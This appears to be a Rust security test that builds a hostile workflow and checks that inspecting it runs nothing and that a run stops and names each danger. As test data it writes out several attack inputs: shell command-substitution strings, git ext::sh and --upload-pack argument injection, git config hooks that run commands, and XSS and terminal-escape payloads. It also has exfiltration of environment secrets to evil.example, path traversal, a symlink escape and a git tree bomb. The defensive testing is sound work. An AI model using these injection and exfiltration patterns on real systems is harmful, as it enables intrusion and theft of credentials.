//! A stranger's workflow that tries everything at once: looking at it does nothing, in little time
//! and memory, and a run stops before the first of it and names each. `trust` has the details.

use std::process::{Command, Stdio};
use std::time::Instant;

use crate::bombs::measured;
use crate::harness::{Outcome, Project, Running, files_below, hides, patience};
use crate::mine_damage::{commit, entry, object};
use crate::repository::Repository;

const WORKFLOW: &str = "galeras: 1
name: \"kind\\e[2J\\e]0;owned\\a\\u202e\"
description: \"<script>alert(1)</script> [a](javascript:alert(1)) ![i](http://evil.example/i)\"
remote: { url: 'http://evil.example:8080/store' }
params:
  words: { type: string, default: '$(touch hit)`touch hit`; touch hit' }
steps:
  hit:
    op: exec
    with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } }
  said:
    op: exec
    with: { command: 'echo ${{ params.words }}', output: { id: utf8! } }
  stolen: { op: read, with: { path: ../outside.csv } }
  prompts: { op: prompt, from: stolen, with: { treatments: { all: '{{ id }}' } } }
  sent:
    op: generate
    from: prompts
    with: { model: m, base_url: 'http://evil.example/v1', api_key_env: HOME, tries: 1 }
  asked:
    op: query
    with: { github: x, limit: 3, token_env: SECRET, base_url: 'https://evil.example/api' }
  repos: { op: read, with: { path: repos.csv, key: [repo] } }
  mined: { op: mine, from: repos, with: { since: 2000-01-01, until: 2030-01-01 } }
outputs:
  left: { from: stolen, path: out/left.csv }
";

/// Each line would run a program, if anybody asked git.
const REPOSITORIES: &str = "repo,clone_url,head_sha
r,./bomb,
x,ext::sh -c touch% hit,
o,--upload-pack=touch hit,
";

/// A configuration of git that runs programs.
const CONFIGURATION: &str = "[core]
\tfsmonitor = touch ../hit
\tsshCommand = touch ../hit
\thooksPath = hooks
[credential]
\thelper = \"!touch ../hit\"
";

const LOOKS: [&[&str]; 7] = [
    &["check", "w.yaml"],
    &["plan", "w.yaml"],
    &["graph", "w.yaml"],
    &["graph", "w.yaml", "--format", "svg"],
    &["explain", "w.yaml", "hit"],
    &["explain", "w.yaml", "mined"],
    &["report", "w.yaml"],
];

fn hostile() -> Project {
    let project = Project::new(WORKFLOW).with("../outside.csv", "id\nsecret\n");
    project.write("repos.csv", REPOSITORIES);
    let bomb = Repository::bare(project.path("bomb"));
    let mut id = object(&bomb, "blob", b"def f():\n    return 1\n");
    for level in 0..10 {
        let (mode, name) = if level == 0 { ("100644", "m.py") } else { ("40000", "d") };
        let entries: Vec<u8> =
            (0..10).flat_map(|at| entry(mode, &format!("{name}{at}"), &id)).collect();
        id = object(&bomb, "tree", &entries);
    }
    commit(&bomb, &id, None);
    let configuration = bomb.git_dir().join("config");
    let before = std::fs::read_to_string(&configuration).unwrap();
    std::fs::write(configuration, before + CONFIGURATION).unwrap();
    std::fs::create_dir(project.path("../elsewhere")).unwrap();
    std::os::unix::fs::symlink(project.path("../elsewhere"), project.path("out")).unwrap();
    project
}

#[track_caller]
fn untouched(project: &Project) {
    for place in ["hit", "bomb/hit", "../hit"] {
        assert!(!project.path(place).exists(), "{place}");
    }
    assert!(files_below(&project.path("../elsewhere")).is_empty());
}

/// The program under `strace`: what it said, and its system calls for programs and networks.
fn traced(project: &Project, args: &[&str]) -> (Outcome, String) {
    let program = project.command_as_typed(args);
    let mut strace = Command::new("strace");
    strace.args(["-f", "-qq", "-e", "trace=network,execve,execveat", "-o", "../trace"]);
    strace.arg(program.get_program()).args(program.get_args());
    strace.env_clear().current_dir(project.root()).stdin(Stdio::null());
    for (name, value) in program.get_envs() {
        strace.env(name, value.unwrap());
    }
    strace.env("SECRET", "a-secret-of-mine");
    let outcome = Running::start(strace).finish();
    (outcome, project.read("../trace"))
}

#[test]
fn looking_at_it_does_nothing_in_little_time_and_memory() {
    let project = hostile();
    let strace = Command::new("strace").args(["-o", "/dev/null", "true"]).output();
    let strace = strace.is_ok_and(|output| output.status.success());
    for args in LOOKS {
        let started = Instant::now();
        let (code, said, most) = measured(&project, args);
        assert_eq!(code, Some(0), "{args:?}: {said}");
        assert!(started.elapsed() < patience(2), "{args:?}: {:?}", started.elapsed());
        assert!(most < 500, "{args:?}: {most} MiB");
        assert!(!said.contains(['\x1b', '\x07', '\u{202e}']), "{args:?}: {said}");
        if strace {
            let (outcome, trace) = traced(&project, args);
            assert_eq!(outcome.code, Some(0), "{outcome}");
            assert_eq!(trace.matches("execve").count(), 1, "{args:?}\n{trace}");
            assert!(!trace.contains("AF_INET"), "{args:?}\n{trace}");
        }
        untouched(&project);
    }
    // The page that came of it shows nothing from elsewhere and runs nothing of it.
    let page = project.read("w.html");
    hides(&page, &["<script>alert", "=\"javascript:", "src=\"http", "a-secret-of-mine"]);
}

#[test]
fn a_run_stops_and_names_each() {
    let project = hostile();
    let (outcome, trace) = traced(&project, &["run", "w.yaml", "--format", "json"]);
    assert_eq!(outcome.code, Some(2), "{outcome}");
    assert!(!trace.contains("AF_INET"), "{trace}");
    assert!(project.stored_nothing());
    untouched(&project);
    let asked: Vec<String> =
        outcome.events("diagnostic").iter().map(|d| d["help"].to_string()).collect();
    for wanted in [
        "--allow exec\"",
        "outside.csv\"",
        "--allow env:HOME=http://evil.example\"",
        "--allow env:SECRET=evil.example\"",
        "--allow host:http://evil.example:8080\"",
        "elsewhere/left.csv\"",
    ] {
        assert!(asked.iter().any(|help| help.ends_with(wanted)), "{wanted} in {asked:?}");
    }
    assert_eq!(outcome.stdout.matches("runs a program").count(), 2, "{outcome}");
}
